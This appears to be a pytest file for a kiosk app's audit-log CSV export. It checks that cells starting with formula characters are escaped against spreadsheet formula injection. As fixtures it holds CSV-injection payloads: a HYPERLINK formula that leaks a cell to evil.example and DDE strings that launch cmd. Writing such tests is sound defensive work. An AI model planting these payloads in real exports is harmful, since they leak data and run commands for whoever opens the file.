"""The audit CSV export neutralises spreadsheet formulas (OWASP's CSV-injection rule) in every cell, while a
reader still gets the exact text back after the one leading quote."""
from __future__ import annotations

import csv

import pytest

from kiosk.store.audit import FORMULA_STARTS, csv_cell

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("start", sorted(HOSTILE))
def test_a_staff_name_starting_with_a_formula_character_is_exported_as_text(empty_store, tmp_path, start):
    name = HOSTILE[start]
    empty_store.audit.record(name, "sign_out", reason=name)
    out = tmp_path / "audit.csv"
    assert empty_store.audit.export_csv(out) == 1
    header, row = _rows(out)
    actor = row[header.index("actor")]
    assert actor == "'" + name  # one quote in front, the rest exactly as stored
    for cell in row:
        assert not cell.startswith(FORMULA_STARTS), repr(cell)


def test_every_leading_character_of_the_rule_is_covered_and_ordinary_text_is_unchanged():
    assert set(FORMULA_STARTS) == set(HOSTILE)
    for start, text in HOSTILE.items():
        assert csv_cell(text) == "'" + text
    for text in ("Ana Admin", "José = nurse", "a-b", "2026-11-30 01:02:03", "{\"x\": \"=1\"}", "", "'quoted"):
        assert csv_cell(text) == text
    assert csv_cell(12) == "12" and csv_cell(None) == ""
    assert csv_cell(-3) == "'-3"  # a number with a sign is text too: the rule is about the first character


def test_the_detail_and_kind_cells_go_through_the_same_rule(empty_store, tmp_path):
    empty_store.staff.add("=cmd", "admin", "482913", actor="+setup")
    out = tmp_path / "audit.csv"
    empty_store.audit.export_csv(out)
    header, row = _rows(out)
    assert row[header.index("actor")] == "'+setup"
    assert '"name": "=cmd"' in row[header.index("detail")]  # inside the JSON, after "{": not a formula
    assert all(not c.startswith(FORMULA_STARTS) for c in row)
